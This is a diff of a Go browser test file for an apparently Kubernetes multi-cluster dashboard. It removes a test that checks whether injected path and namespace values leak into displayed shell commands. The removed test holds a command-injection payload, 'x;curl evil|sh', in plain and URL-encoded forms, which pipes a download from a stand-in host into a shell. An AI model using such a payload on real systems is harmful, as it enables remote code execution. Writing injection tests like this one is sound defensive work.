@@ -435,61 +435,6 @@ func TestKindWithoutNamespacesIgnoresTheNamespace(t *testing.T) {
 	}
 }
 
-// TestNamesOfAnAddressAreNoCommands opens addresses with texts that a shell would run.
-func TestNamesOfAnAddressAreNoCommands(t *testing.T) {
-	h := newHub(t)
-	h.set(func(h *hub) { h.everything() })
-	b := browser.Open(t, h.URL, "status of 403")
-	const evil = "x%3Bcurl%20evil%7Csh"
-	for page, text := range map[string]string{
-		"clusters/%s": "Problems",
-		"clusters/c01?tab=objects&kind=deployments.apps/v1&ns=%s": "web-1",
-		"clusters/%s?tab=objects&kind=deployments.apps/v1":        "web-1",
-		"policies/PropagationPolicy/shop/%s":                      "PropagationPolicy",
-		"policies/PropagationPolicy/%s/web":                       "PropagationPolicy",
-		"policies/%s/shop/web":                                    "Policies",
-		"releases/shop/%s":                                        "Stages",
-		"releases/%s/web-1":                                       "Stages",
-		"w/apps/Deployment/shop/%s":                               "Workloads",
-		"w/apps/Deployment/%s/web":                                "Workloads",
-		"w/apps/Deployment/shop/%s?tab=pods":                      "Workloads",
-	} {
-		for name, commands := range map[string]bool{"web": true, evil: false} {
-			b.Visit(strings.Replace(page, "%s", name, 1))
-			b.WaitFor("the page is drawn", func() string {
-				if got := b.Text(); !strings.Contains(got, text) {
-					return got
-				}
-				return ""
-			})
-			if commands {
-				b.WaitFor("the command of "+page, func() string {
-					if n := browser.Run[int](b, `document.querySelectorAll("main .same .command").length`); n == 0 {
-						return "there is none"
-					}
-					return ""
-				})
-			} else if got := browser.Run[string](b,
-				`[...document.querySelectorAll("main .command")].map((c) => c.textContent).join("; ")`); strings.Contains(got,
-				"evil") {
-				t.Errorf("%s has the command %q", page, got)
-			}
-		}
-	}
-
-	t.Log("a right that is missing")
-	h.set(func(h *hub) {
-		right := missing("list", "apps", "deployments")
-		right["namespace"] = "x;curl evil|sh"
-		h.answers["GET api/objects"] = answer{403, object{"message": "no", "missing": right}}
-	})
-	b.Visit("clusters/c01?tab=objects&kind=deployments.apps/v1&ns=" + evil)
-	b.See("You may not see this")
-	if n := browser.Run[int](b, `document.querySelectorAll("main .command").length`); n > 0 {
-		t.Errorf("%d commands have a namespace that is no name", n)
-	}
-}
-
 // TestObjectThatIsGoneIsSaidToBeGone opens the address of an object that was deleted.
 func TestObjectThatIsGoneIsSaidToBeGone(t *testing.T) {
 	h := newHub(t)
